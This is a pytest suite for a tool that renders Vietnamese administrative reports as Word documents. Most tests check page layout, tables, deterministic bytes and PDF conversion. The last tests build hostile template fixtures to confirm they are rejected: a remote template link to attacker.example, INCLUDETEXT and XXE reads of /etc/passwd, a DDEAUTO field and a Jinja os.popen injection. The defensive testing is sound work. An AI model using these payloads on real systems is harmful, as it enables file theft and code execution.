"""`cchc report --format docx` (issue #14): the Word document read back with python-docx — the page
of Nghị định 30/2020 (A4, margins, Times New Roman), the heading block, the title, every section
heading and the summary figures equal to the Markdown report's —, the same bytes for the same data,
LibreOffice's PDF of it, and an office's own `templates/report.docx` (its styles win; macros,
links and fields that read files are refused).

The PDF test needs LibreOffice (`libreoffice-writer-nogui`) and poppler's `pdftotext`, both
installed by .ci/run; it is skipped only where they are absent.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.shared import Pt

from cchc.loader import load_dataset
from cchc.ooxml import FIXED_TIME
from cchc.periods import parse_period
from cchc.report import build_context, render_report
from cchc.report.values import ReportContext
from cchc.report.word import render_docx
from conftest import DATA, REPO, SAMPLE, Run

REPORTING = DATA / "reporting"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def _context(root: Path, period: str, lang: str = "vi", agency: str | None = None) -> ReportContext:
    import datetime as dt

    result = load_dataset(root, today=dt.date(2100, 1, 1))
    assert result.dataset is not None and result.ok
    p = parse_period(period)
    return build_context(result.dataset, p, p.end, lang, agency)


def _open(data: bytes) -> docx.document.Document:
    return docx.Document(io.BytesIO(data))


def _md_summary(markdown: str) -> list[tuple[str, str]]:
    """The rows of the Markdown report's summary table (the appendix's first table)."""
    part = markdown.split("\n## 1. ", 1)[1].split("\n## ", 1)[0]
    rows = [line for line in part.splitlines() if line.startswith("| ")][1:]  # no header
    cells = [tuple(c.strip().replace("\\", "") for c in row.strip("|").split("|")) for row in rows]
    return [(a, b) for a, b in cells if not set(b) <= {"-", ":", " "}]


def _table_rows(table: docx.table.Table) -> list[tuple[str, ...]]:
    return [tuple(cell.text for cell in row.cells) for row in table.rows]


@pytest.mark.parametrize(
    ("root", "period", "lang", "agency"),
    [
        (REPO, "2017H1", "vi", None),
        (REPO, "2016-2020", "en", None),
        (REPORTING, "2017H1", "vi", None),
        (REPORTING, "2017H1", "vi", "stp"),
    ],
)
def test_the_document_is_the_report_in_the_decree_layout(
    root: Path, period: str, lang: str, agency: str | None
) -> None:
    context = _context(root, period, lang, agency)
    document = _open(render_docx(context))

    section = document.sections[0]
    assert round(section.page_width.mm) == 210 and round(section.page_height.mm) == 297  # A4
    assert 20 <= round(section.top_margin.mm) <= 25 and 20 <= round(section.bottom_margin.mm) <= 25
    assert 30 <= round(section.left_margin.mm) <= 35
    assert 15 <= round(section.right_margin.mm) <= 20
    normal = document.styles["Normal"]
    assert normal.font.name == "Times New Roman"
    assert Pt(13) <= normal.font.size <= Pt(14)
    fonts = normal.element.find(f"{W}rPr/{W}rFonts")
    assert fonts is not None and fonts.get(f"{W}hAnsi") == "Times New Roman"  # ổ, ệ, ỷ live there
    for name in ("Heading 1", "Heading 2", "Title"):
        assert document.styles[name].font.name == "Times New Roman"

    # The heading block: a borderless table of two columns.
    heading = document.tables[0]
    assert len(heading.columns) == 2
    borders = heading._tbl.tblPr.find(f"{W}tblBorders")
    assert borders is not None and {e.get(f"{W}val") for e in borders} == {"nil"}
    left, right = (cell.text for cell in heading.rows[0].cells)
    h = context.heading
    assert [line for line in left.split("\n") if line] == [
        *([h.parent_body] if h.parent_body else []),
        h.issuing_body,
        h.number,
    ]
    assert right.split("\n") == [h.country, h.motto, h.place_date]

    paragraphs = [(p.style.name, p.text) for p in document.paragraphs]
    assert ("Title", h.title) in paragraphs
    headings = [text for style, text in paragraphs if style == "Heading 1"]
    assert headings == [f"{s.number}. {s.title}" for s in context.sections]
    second = [text for style, text in paragraphs if style == "Heading 2"]
    for s in context.sections:
        for part in s.parts:
            assert f"{part.number}. {part.title}" in second
    for s in context.sections:
        if s.text is not None and s.text.placeholder:
            assert ("CCHC Placeholder", s.text.placeholder) in paragraphs

    # The summary table: the figures of the Markdown report, row by row.
    markdown = render_report(context, "md", root)
    summary = _table_rows(document.tables[2])
    assert summary[1:] == _md_summary(markdown)
    header_row = document.tables[2].rows[0]._tr
    assert header_row.find(f"{W}trPr/{W}tblHeader") is not None

    # The closing: "Nơi nhận" beside the signature.
    closing = document.tables[1]
    recipients, signature = (cell.text for cell in closing.rows[0].cells)
    assert recipients.startswith(context.closing.recipients_label)
    assert context.closing.signer_title in signature


def test_every_appendix_table_is_a_word_table_with_a_repeating_header() -> None:
    context = _context(REPO, "2016-2020")
    document = _open(render_docx(context))
    expected = [t for part in context.appendix.parts for t in part.tables if t.rows]
    tables = document.tables[2:]
    assert len(tables) == len(expected)
    for table, data in zip(tables, expected, strict=True):
        assert _table_rows(table)[0] == tuple(c.label for c in data.columns)
        assert _table_rows(table)[1:] == list(data.rows)
        assert table.rows[0]._tr.find(f"{W}trPr/{W}tblHeader") is not None


def test_page_numbers_are_centred_at_the_top_from_page_two() -> None:
    document = _open(render_docx(_context(SAMPLE, "2017")))
    section = document.sections[0]
    assert section.different_first_page_header_footer
    assert section.first_page_header.paragraphs[0].text == ""
    header = section.header.paragraphs[0]
    assert header.alignment == 1  # centred
    assert 'w:instr="PAGE"' in header._p.xml


def test_the_same_data_gives_the_same_bytes() -> None:
    first = render_docx(_context(SAMPLE, "2017"))
    assert render_docx(_context(SAMPLE, "2017")) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {e.date_time for e in archive.infolist()} == {FIXED_TIME}
        assert archive.namelist()[0] == "[Content_Types].xml"
        core = archive.read("docProps/core.xml").decode()
        assert "dcterms:created" not in core and "dcterms:modified" not in core
        assert "docProps/thumbnail.jpeg" not in archive.namelist()


def test_cli_writes_docx_by_extension_and_to_a_pipe(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    out = tmp_path / "bao-cao.docx"
    result = cli("report", "--root", str(SAMPLE), "--period", "2017", "-o", str(out))
    assert (result.code, result.out, result.err) == (0, "", "")
    assert out.read_bytes() == render_docx(_context(SAMPLE, "2017"))
    piped = subprocess.run(
        [
            sys.executable,
            "-m",
            "cchc",
            "report",
            "--root",
            str(SAMPLE),
            "--period",
            "2017",
            "--format",
            "docx",
        ],
        capture_output=True,
        check=False,
    )
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout == out.read_bytes()


def test_docx_to_a_terminal_is_refused(
    cli: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(sys, "stdout", Terminal())
    from cchc.cli import main

    err = io.StringIO()
    monkeypatch.setattr(sys, "stderr", err)
    code = main(["report", "--root", str(SAMPLE), "--period", "2017", "--format", "docx"])
    assert code == 2
    assert err.getvalue().count("\n") == 1 and "-o" in err.getvalue()


# ------------------------------------------------------------------------- LibreOffice's PDF


def test_libreoffice_prints_it_with_the_title_and_the_figures(tmp_path: Path) -> None:
    office, pdftotext = shutil.which("soffice"), shutil.which("pdftotext")
    if office is None or pdftotext is None:
        pytest.skip("LibreOffice or pdftotext is missing (.ci/run installs them)")
    context = _context(REPO, "2017H1")
    source = tmp_path / "bao-cao.docx"
    source.write_bytes(render_docx(context))
    subprocess.run(
        [
            office,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            *("--convert-to", "pdf", "--outdir", str(tmp_path), str(source)),
        ],
        capture_output=True,
        timeout=300,
        check=True,
    )
    pdf = tmp_path / "bao-cao.pdf"
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))  # type: ignore[union-attr]
    assert 4 <= pages <= 15, pages
    text = subprocess.run(
        [pdftotext, "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    flat = " ".join(text.split())
    assert context.heading.title in flat
    assert " ".join(context.heading.subtitle.split()) in flat
    for row in context.summary:
        assert re.search(re.escape(row.label) + r"\s+" + re.escape(row.in_period), flat), row


# ------------------------------------------------------------------------ an office's base


def _base(tmp_path: Path, **parts: bytes) -> Path:
    """A dataset copy whose `templates/report.docx` is python-docx's blank document restyled
    (Normal in Arial 14 pt, a letterhead footer, a sentence in the body), with `parts` added."""
    root = tmp_path / "ds"
    shutil.copytree(SAMPLE, root)
    base = docx.Document()
    base.styles["Normal"].font.name = "Arial"
    base.styles["Normal"].font.size = Pt(14)
    base.sections[0].footer.paragraphs[0].text = "SỞ NỘI VỤ — 01 Lê Lợi, Quy Nhơn"
    base.add_paragraph("This sentence of the base must not reach the report.")
    buffer = io.BytesIO()
    base.save(buffer)
    data = buffer.getvalue()
    if parts:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(data)) as source,
            zipfile.ZipFile(out, "w") as target,
        ):
            for entry in source.infolist():
                content = source.read(entry)
                content = parts.pop(entry.filename, content)
                target.writestr(entry.filename, content)
            for name, content in parts.items():
                target.writestr(name, content)
        data = out.getvalue()
    (root / "templates").mkdir(exist_ok=True)
    (root / "templates" / "report.docx").write_bytes(data)
    return root


def test_an_office_base_gives_its_styles_and_footer_not_its_words(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    root = _base(tmp_path)
    out = tmp_path / "r.docx"
    result = cli("report", "--root", str(root), "--period", "2017", "-o", str(out))
    assert (result.code, result.err) == (0, "")
    document = _open(out.read_bytes())
    assert document.styles["Normal"].font.name == "Arial"
    assert document.styles["Normal"].font.size == Pt(14)
    assert document.sections[0].footer.paragraphs[0].text.startswith("SỞ NỘI VỤ")
    words = "\n".join(p.text for p in document.paragraphs)
    assert "must not reach" not in words
    assert words.count(_context(root, "2017").heading.title) >= 1
    assert "CCHC Placeholder" in {s.name for s in document.styles}  # missing styles are added
    assert cli("validate", "--root", str(root), "--as-of", "2021-01-05").code == 0


_RELS = "word/_rels/document.xml.rels"


def _with_external_link(tmp_path: Path) -> Path:
    root = _base(tmp_path)
    data = (root / "templates/report.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read(_RELS)
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    shutil.rmtree(root)
    return _base(tmp_path, **{_RELS: rels})


_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
    b' INCLUDETEXT "/etc/passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    b"</w:p>"
)


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda tmp: _base(tmp, **{"word/vbaProject.bin": b"\x00" * 64}), "macro"),
        (
            lambda tmp: _base(
                tmp, **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60}
            ),
            "macro",
        ),
        (_with_external_link, "outside"),
        (
            lambda tmp: _base(
                tmp,
                **{
                    "word/header9.xml": b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/'
                    b'wordprocessingml/2006/main">' + _FIELD + b"</w:hdr>"
                },
            ),
            "INCLUDETEXT",
        ),
        (
            lambda tmp: _base(
                tmp,
                **{
                    "word/footer9.xml": b'<w:ftr xmlns:w="x"><w:fldSimple w:instr=" DDEAUTO c:\\\\a '
                    b'"/></w:ftr>'
                },
            ),
            "DDEAUTO",
        ),
        (
            lambda tmp: _base(
                tmp, **{"word/extra.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'}
            ),
            "DOCTYPE",
        ),
    ],
    ids=["vba", "ole", "external", "includetext", "dde", "doctype"],
)
def test_an_office_base_that_could_run_or_read_is_refused(
    cli: Callable[..., Run], tmp_path: Path, make: Callable[[Path], Path], words: str
) -> None:
    root = make(tmp_path)
    out = tmp_path / "r.docx"
    result = cli("report", "--root", str(root), "--period", "2017", "-o", str(out), "--lang", "en")
    assert result.code == 1, result
    line = result.err.strip()
    assert "\n" not in line
    assert line.startswith("templates/report.docx:1:1: error: ") and line.endswith(
        "[template-file]"
    )
    assert words in line
    assert not out.exists()
    checked = cli("validate", "--root", str(root), "--as-of", "2021-01-05", "--lang", "en")
    assert checked.code == 1 and "templates/report.docx" in checked.out


@pytest.mark.parametrize("kind", ["not-a-zip", "too-large", "symlink", "no-document"])
def test_an_office_base_that_is_no_docx_is_refused(
    cli: Callable[..., Run], tmp_path: Path, kind: str
) -> None:
    root = _base(tmp_path)
    target = root / "templates/report.docx"
    if kind == "not-a-zip":
        target.write_bytes(b"{{ cycler.__init__.__globals__.os.popen('id').read() }}")
    elif kind == "too-large":
        target.write_bytes(b"PK" + b"\x00" * (5 * 1024 * 1024 + 1))
    elif kind == "symlink":
        target.unlink()
        target.symlink_to(REPO / "pyproject.toml")
    else:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
        target.write_bytes(out.getvalue())
    result = cli("report", "--root", str(root), "--period", "2017", "--format", "docx")
    assert result.code == 1, result
    assert result.err.startswith("templates/report.docx:1:1: error: ")
    assert result.err.count("\n") == 1
